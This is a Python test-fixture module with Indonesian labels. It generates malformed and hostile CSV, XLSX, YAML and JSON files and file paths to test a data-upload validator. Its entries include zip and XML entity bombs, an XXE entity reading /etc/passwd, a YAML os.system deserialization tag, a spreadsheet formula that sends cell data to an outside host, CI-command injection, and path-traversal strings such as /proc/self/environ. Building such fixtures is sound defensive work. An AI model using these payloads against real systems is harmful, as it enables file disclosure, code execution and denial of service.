"""Files as somebody with bad intentions, or bad luck, submits them: each made small and on the spot."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Mapping
from functools import partial

import openpyxl
from openpyxl.comments import Comment

HEADER = "kode_wilayah,tahun,jumlah,rata,tanggal,jenis,penerima,kegiatan"
ROW = '74.72.01.1007,2025,120,"1,5",2025-05-10,beras,Keluarga A,1.06.02.2.01'
OTHER = '74.72.01.1012,2025,80,"2,25",2025-05-11,beras,Keluarga B,1.06.02.2.01'
GOOD = f"{HEADER}\n{ROW}\n{OTHER}\n"

CSV: Mapping[str, tuple[str, bytes]] = {
    "dua tabel bertumpuk": ("T", f"{GOOD}\nnama,umur\nAli,3\n".encode()),
    "dua tabel selebar": ("T", f"{GOOD}{GOOD}".encode()),
    "judul di atas tabel": ("F", f"Laporan Bantuan,,,,,,,\nTahun 2025,,,,,,,\n{GOOD}".encode()),
    "jumlah di bawah tabel": ("RT", f"{GOOD}Jumlah,,200,,,,,\n".encode()),
    "satu koma lebih di tiap baris": ("T", f"{HEADER}\n{ROW},\n{OTHER},\n".encode()),
    "satu koma lebih di tiap baris dan judul": ("T", f"{HEADER},\n{ROW},\n{OTHER},\n".encode()),
    "judul dua baris": ("T", f"{HEADER}\n,,,,,,,\n{ROW}\n".encode()),
    "judul saja": ("FT", f"{HEADER}\n".encode()),
    "kosong": ("F", b""),
    "spasi saja": ("FT", b" \n \n"),
    "titik ribuan tanpa diumumkan": ("T", GOOD.replace(",120,", ",1.234,").encode()),
    "koma ribuan": ("T", GOOD.replace(",120,", ',"1,234",').encode()),
    "pemisah titik koma": ("FT", GOOD.replace('"1,5"', "1.5").replace(",", ";").encode()),
    "angka Arab": ("T", GOOD.replace(",120,", ",١٢,").encode()),
    "angka lebar penuh": ("T", GOOD.replace(",120,", ",１２,").encode()),
    "1e400": ("T", GOOD.replace('"1,5"', "1e400").encode()),
    "NaN": ("T", GOOD.replace('"1,5"', "NaN").encode()),
    "tak hingga": ("T", GOOD.replace('"1,5"', "-Infinity").encode()),
    "garis bawah dalam angka": ("T", GOOD.replace(",120,", ",1_000,").encode()),
    "angka 5000 digit": ("T", GOOD.replace(",120,", f",{'9' * 5000},").encode()),
    "30 Februari": ("T", GOOD.replace("2025-05-10", "2024-02-30").encode()),
    "NUL": ("FT", GOOD.replace("Keluarga A", "Kel\0A").encode()),
    "UTF-16 tanpa BOM": ("F", GOOD.encode("utf-16-be")),
    "dua penyandian": ("F", GOOD.replace("Keluarga A", "Café").encode() + "Café\n".encode("cp1252")),
    "UTF-8 rusak": ("F", GOOD.encode().replace(b"Keluarga A", b"\xc0\xafMuna")),
    "CR saja": ("", GOOD.replace("\n", "\r").encode()),
    "kutip tidak ditutup": ("F", GOOD.replace("Keluarga A", '"Keluarga A').encode()),
    "sel raksasa": ("F", GOOD.replace("Keluarga A", "x" * 3_000_000).encode()),
    "sejuta kolom": ("FT", (",".join(["a"] * 1_000_000) + "\n").encode()),
    "sejuta kolom berlainan": ("FT", (",".join(map(str, range(1_000_000))) + "\n").encode()),
    "sejuta koma": ("FT", f"{GOOD}{',' * 1_000_000}\n".encode()),
    "sejuta baris kosong": ("", f"{HEADER}\n{chr(10) * 1_000_000}{ROW}\n".encode()),
    "judul kembar": ("T", GOOD.replace("tahun,jumlah", "jumlah,jumlah").encode()),
    "tanda konflik": ("F", f"{HEADER}\n<<<<<<< HEAD\n{ROW}\n=======\n{OTHER}\n>>>>>>> lain\n".encode()),
    "penunjuk LFS": ("F", b"version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n"),
    "HTML": ("F", f"<!DOCTYPE html><html><body>{GOOD}</body></html>".encode()),
    "tanda konflik sepotong": ("F", f"{GOOD}>>>>>>> lain\n".encode()),
    "JSON": ("F", b'[{"kode_wilayah": "74.72.01.1007"}]'),
    "XML": ("F", b"\xef\xbb\xbf<?xml version='1.0'?><a/>"),
    "RTF": ("F", b"{\\rtf1 a}"),
    "Parquet": ("F", b"PAR1" + bytes(60) + b"PAR1"),
    "SQLite": ("F", b"SQLite format 3\0" + bytes(100)),
    "program": ("F", b"MZ\x90" + bytes(100)),
    "tambalan": ("F", f"diff --git a/a b/a\n+++ b\n{GOOD}".encode()),
    "ZIP": ("F", b"PK\x03\x04" + bytes(64)),
    "pengarah tulisan": ("T", GOOD.replace("Keluarga A", "Keluarga \u202eA").encode()),
    "lebar nol": ("RT", GOOD.replace("74.72.01.1007", "74.72.01.1007\u200b").encode()),
    "tanda kendali": ("T", GOOD.replace("Keluarga A", "Keluarga \x1b[31mA").encode()),
    "perintah catatan CI": ("T", GOOD.replace("beras", "::error file=a::b").encode()),
}
"""By name: letters of the layer whose finding is expected, and the bytes of the table."""


def _xlsx(
    change: Callable[[dict[str, bytes]], None], fill: Callable[[openpyxl.Workbook], None] | None = None
) -> Callable[[], bytes]:
    """Makes a workbook when it is asked for: whoever only lists the corpus waits for none."""
    return partial(_make_workbook, change, fill)


def _make_workbook(
    change: Callable[[dict[str, bytes]], None], fill: Callable[[openpyxl.Workbook], None] | None
) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADER.split(","))
    sheet.append(["74.72.01.1007", 2025, 120, 1.5, "2025-05-10", "beras", "Keluarga A", "1.06.02.2.01"])
    if fill is not None:
        fill(book)
    stream = io.BytesIO()
    book.save(stream)
    with zipfile.ZipFile(stream) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return packed.getvalue()


SHEET = "xl/worksheets/sheet1.xml"


def _replace(old: bytes, new: bytes, part: str = SHEET) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        assert old in parts[part], parts[part][:400]
        parts[part] = parts[part].replace(old, new, 1)

    return change


def _add(name: str, content: bytes) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        parts[name] = content

    return change


def _untouched(parts: dict[str, bytes]) -> None:
    """As it is."""


def _far_cell(book: openpyxl.Workbook) -> None:
    sheet = book.active
    assert sheet is not None
    sheet["XFD1048576"] = "jauh"


def _long_number(book: openpyxl.Workbook) -> None:
    sheet = book.active
    assert sheet is not None
    sheet["C2"] = 1234567890123456


def _hidden_column(book: openpyxl.Workbook) -> None:
    sheet = book.active
    assert sheet is not None
    sheet.column_dimensions["G"].hidden = True


def _comment(book: openpyxl.Workbook) -> None:
    sheet = book.active
    assert sheet is not None
    sheet["A1"].comment = Comment("catatan petugas", "petugas")


def _formula(book: openpyxl.Workbook) -> None:
    sheet = book.active
    assert sheet is not None
    sheet["C2"] = '=HYPERLINK("https://lain.example/?"&G2,"120")'


_ENTITIES = (
    b"<!DOCTYPE l ["
    + b"".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">'.encode() for n in range(10))
    + b"]>"
)


def _add_rows(parts: dict[str, bytes]) -> None:
    """Rows and rows without a cell."""
    wide = b"".join(f'<row r="{n}"/>'.encode() for n in range(3, 200_000))
    _replace(b"</sheetData>", wide + b"</sheetData>")(parts)


def _add_blanks(parts: dict[str, bytes]) -> None:
    """Sixty megabytes of nothing in a sheet."""
    _replace(b"</sheetData>", b" " * 60_000_000 + b"</sheetData>")(parts)


def _add_zeros(parts: dict[str, bytes]) -> None:
    """Thirty megabytes of nothing beside it."""
    parts["xl/media/a.bin"] = b"0" * 30_000_000


XLSX: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    "ukuran bohong kecil": ("", _xlsx(_replace(b'<dimension ref="A1:H2"', b'<dimension ref="A1"'))),
    "ukuran bohong besar": (
        "",
        _xlsx(_replace(b'<dimension ref="A1:H2"', b'<dimension ref="A1:XFD1048576"')),
    ),
    "sel di ujung lembar": ("FT", _xlsx(_untouched, _far_cell)),
    "bom zip": ("F", _xlsx(_add_zeros)),
    "bom di lembar": ("F", _xlsx(_add_blanks)),
    "bom entitas": ("F", _xlsx(_replace(b"<worksheet", _ENTITIES + b"<worksheet"))),
    "entitas luar": (
        "F",
        _xlsx(_replace(b"<worksheet", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><worksheet')),
    ),
    "baris kosong tak terhingga": ("", _xlsx(_add_rows)),
    "makro": ("", _xlsx(_add("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0"))),
    "tautan luar": ("", _xlsx(_add("xl/externalLinks/externalLink1.xml", b"<externalLink/>"))),
    "sambungan data": ("", _xlsx(_add("xl/connections.xml", b"<connections/>"))),
    "berkas tertanam": ("", _xlsx(_add("xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"))),
    "komentar": ("", _xlsx(_untouched, _comment)),
    "gambar": ("", _xlsx(_add("xl/media/image1.png", b"\x89PNG"))),
    "grafik": ("", _xlsx(_add("xl/charts/chart1.xml", b"<chartSpace/>"))),
    "kolom tersembunyi": ("F", _xlsx(_untouched, _hidden_column)),
    "rumus tanpa nilai": ("F", _xlsx(_untouched, _formula)),
    "angka 16 digit": ("F", _xlsx(_untouched, _long_number)),
    "bagian hilang": ("F", _xlsx(lambda parts: parts.pop(SHEET) and None)),
    "XML rusak": ("F", _xlsx(_replace(b"</sheetData>", b"<c"))),
    "alamat sel aneh": ("F", _xlsx(_replace(b'r="A2"', b'r="ZZZZZZ99999999999"'))),
    "nomor baris mundur": ("F", _xlsx(_replace(b'<row r="2"', b'<row r="-5"'))),
    "bukan zip": ("F", lambda: b"bukan buku kerja"),
    "zip terpotong": ("F", lambda: _xlsx(_untouched)()[:900]),
}

CARRYING = ("makro", "tautan luar", "sambungan data", "berkas tertanam", "komentar", "gambar", "grafik")
"""Workbooks that hold more than their table: told with F208, and never published themselves."""

DEEP = "[" * 50_000
YAML: Mapping[str, str] = {
    "dalam": f"a: {DEEP}",
    "dalam tanpa kurung": "".join(f"{' ' * n}a:\n" for n in range(400)),
    "jangkar": "a: &a [x, x]\nb: [*a, *a]\n",
    "tawa semiliar": "a: &a [x]\n"
    + "".join(f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join([f'*{chr(97 + n)}'] * 9)}]\n" for n in range(9)),
    "seratus ribu jangkar": "".join(f"a{n}: &a{n} x\n" for n in range(9_000)),
    "kunci ganda": "klasifikasi: rahasia\nklasifikasi: publik\n",
    "kunci gabungan": "<<: {klasifikasi: publik}\n",
    "tag Python": "a: !!python/object/apply:os.system [id]\n",
    "tag lingkungan": "a: !ENV TOKEN\n",
    "dua dokumen": "a: 1\n---\nb: 2\n",
    "pemetaan besar": "".join(f"kunci{n}: {n}\n" for n in range(12_000)),
    "kutip tak ditutup": 'a: "' + "x" * 200_000,
    "tab": "\ta: 1\n",
    "NUL": "a: \0\n",
    "kunci rumit": "? [a, b]\n: c\n",
    "sejuta kurung kurawal": "{" * 200_000,
    "daftar alir panjang": "a: [" + "a," * 100_000 + "]",
    "bukan pemetaan": "- a\n- b\n",
    "kosong": "",
    "biner": "\x00\x01\x02",
}
JSON: Mapping[str, str] = {
    "dalam": DEEP,
    "kunci ganda": '{"klasifikasi": "rahasia", "klasifikasi": "publik"}',
    "NaN": '{"a": NaN}',
    "angka raksasa": '{"a": ' + "9" * 100_000 + "}",
    "terpotong": '{"a": ',
    "bukan pemetaan": "[1, 2]",
    "kutip tak ditutup": '{"a": "' + "\\" * 100_001,
    "surogat": '{"name": "\\ud800"}',
}
PATHS = (
    "/etc/passwd",
    "../../../mkdocs.yml",
    "..\\..\\mkdocs.yml",
    "C:\\Windows\\win.ini",
    "\\\\host\\bagi\\a.csv",
    "file:///etc/passwd",
    "http://127.0.0.1:9/a.csv",
    "https://lain.example/a.csv",
    "%2e%2e/%2e%2e/mkdocs.yml",
    "/dev/zero",
    "/proc/self/environ",
    "*.csv",
    "bantuan.csv\x00.txt",
    "~/a.csv",
    "$HOME/a.csv",
    "CON",
    "nul.csv",
    "a" * 5_000 + ".csv",
    "a/" * 2_000 + "a.csv",
    "",
    ".",
    "./bantuan.csv/../bantuan.csv",
)
